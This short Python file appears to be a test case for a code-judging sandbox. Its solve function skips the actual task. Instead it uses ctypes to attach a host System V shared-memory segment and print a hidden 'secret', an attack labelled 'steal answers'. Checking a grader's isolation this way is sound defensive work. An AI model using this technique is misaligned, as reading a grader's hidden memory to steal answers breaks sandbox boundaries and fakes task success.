"""Attaches a System V segment of the host"""

import ctypes

ATTACK = {
    "group": "steal answers",
    "verdicts": ["wrong-answer"],
    "witness": "secret",
    "bound_s": 5,
    "needs": ["system-v"],
}


def solve(seed, x_batch, y_batch, lr):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(int("@SEGMENT_ID@"), None, 0o10000)
    if address not in (None, 2**64 - 1):
        print(ctypes.string_at(address, 32))
    return [0.0, 0.0]
